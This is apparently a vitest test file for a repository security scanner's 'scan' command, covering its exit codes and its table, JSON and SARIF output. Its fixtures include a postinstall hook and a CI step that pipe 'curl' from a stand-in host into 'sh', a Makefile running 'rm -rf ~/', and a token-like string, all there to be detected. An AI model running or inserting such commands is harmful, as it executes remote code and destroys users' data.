/** `reviewer scan` as a person or CI runs it: its exit codes, and its forms. */
import { dirname } from 'node:path'
import { describe, expect, test } from 'vitest'
import { makeWorld, type World } from '../../world.ts'

const STEALS = '{\n  "scripts": { "postinstall": "curl -s https://x.example/i.sh | sh" }\n}\n'

function repository(files: Readonly<Record<string, string>>): { readonly world: World; readonly at: string } {
  const world = makeWorld()
  const note = world.put('scanned/README.md')
  for (const [name, text] of Object.entries(files)) world.put(`scanned/${name}`, text)
  return { world, at: dirname(note) }
}

describe('exit codes', () => {
  test('0 where nothing is found, 1 from high on, and from what --fail-on says', () => {
    const clean = repository({ 'package.json': '{"scripts":{"test":"vitest"}}' })
    expect(clean.world.cli(['scan', clean.at]).status).toBe(0)
    const { world, at } = repository({ 'package.json': STEALS })
    expect(world.cli(['scan', at]).status).toBe(1)
    expect(world.cli(['scan', '--fail-on', 'critical', at]).status).toBe(0)
    expect(world.cli(['scan', '--fail-on', 'never', at]).status).toBe(0)
    expect(world.cli(['scan', '--fail-on', 'low', at]).status).toBe(1)
  })

  test('2 where it is used wrongly', () => {
    const { world, at } = repository({})
    for (const words of [
      ['scan'],
      ['scan', `${at}/none`],
      ['scan', '--json', '--sarif', at],
      ['scan', '--fail-on', 'much', at],
    ]) {
      const { status, stderr } = world.cli(words)
      expect([words.join(' '), status === 0]).toEqual([words.join(' '), false])
      expect(stderr).not.toContain('    at ')
    }
    expect(world.cli(['scan', `${at}/none`]).status).toBe(2)
  })
})

describe('forms', () => {
  test('the table: worst first, when it runs, where it stands', () => {
    const { world, at } = repository({ 'package.json': STEALS, Makefile: 'all:\n\trm -rf ~/\n' })
    const { stdout } = world.cli(['scan', at])
    expect(stdout.indexOf('CRITICAL')).toBeLessThan(stdout.indexOf('HIGH'))
    expect(stdout).toMatch(/HIGH +on npm install\n +package\.json:2 {2}\(exec\.download\)/)
    expect(stdout).toContain('Makefile:2')
  })

  test('one file', () => {
    const { world, at } = repository({
      '.github/workflows/ci.yml':
        'on: push\njobs:\n  a:\n    steps:\n      - run: curl -s https://x.example/i.sh | sh\n',
    })
    const { stdout, status } = world.cli(['scan', `${at}/.github/workflows/ci.yml`, '--json'])
    expect(status).toBe(1)
    expect(JSON.parse(stdout).findings[0]).toMatchObject({
      file: '.github/workflows/ci.yml',
      line: 5,
      when: 'in CI (GitHub)',
    })
  })

  test('no control characters, no secrets', () => {
    const { world, at } = repository({
      'package.json':
        '{"scripts":{"postinstall":"curl -H \\"X: ghp_16C7e42F292c6912E7710c838347Ae178B4a\\" https://x.example/\\u001b[2J | sh"}}',
    })
    for (const form of [[], ['--json'], ['--sarif']]) {
      const { stdout } = world.cli(['scan', at, ...form])
      expect(stdout).toContain('exec.download')
      expect(stdout).not.toMatch(/\x1b|ghp_16C7/)
    }
  })

  /** The fields that the specification of SARIF 2.1.0 requires (section 3, "SHALL contain"), and what GitHub's upload needs. */
  test('SARIF 2.1.0', () => {
    const { world, at } = repository({
      'package.json': STEALS,
      'a b/Makefile': 'all:\n\trm -rf ~/\n',
      'setup.cfg': '\0',
    })
    const log = JSON.parse(world.cli(['scan', at, '--sarif']).stdout)
    expect(log.version).toBe('2.1.0')
    const [run] = log.runs
    const { driver } = run.tool
    expect(typeof driver.name).toBe('string')
    const ids = driver.rules.map(({ id }: { id: string }) => id)
    expect(new Set(ids).size).toBe(ids.length)
    for (const rule of driver.rules) {
      expect(rule.shortDescription.text).not.toBe('')
      expect(['none', 'note', 'warning', 'error']).toContain(rule.defaultConfiguration.level)
      expect(Number(rule.properties['security-severity'])).toBeGreaterThan(0)
    }
    expect(run.results.length).toBeGreaterThan(1)
    for (const result of run.results) {
      expect(ids[result.ruleIndex]).toBe(result.ruleId)
      expect(['none', 'note', 'warning', 'error']).toContain(result.level)
      expect(result.message.text).not.toBe('')
      const [{ physicalLocation }] = result.locations
      expect(physicalLocation.artifactLocation.uri).not.toMatch(/^\/|\s|\.\./)
      expect(physicalLocation.region.startLine).toBeGreaterThan(0)
      expect(Object.values(result.partialFingerprints)).toHaveLength(1)
    }
    expect(
      run.results.some(
        (each: { locations: [{ physicalLocation: { artifactLocation: { uri: string } } }] }) =>
          each.locations[0].physicalLocation.artifactLocation.uri === 'a%20b/Makefile',
      ),
    ).toBe(true)
    expect(run.invocations[0].executionSuccessful).toBe(true)
    expect(run.invocations[0].toolExecutionNotifications[0].message.text).toContain('setup.cfg')
  })
})
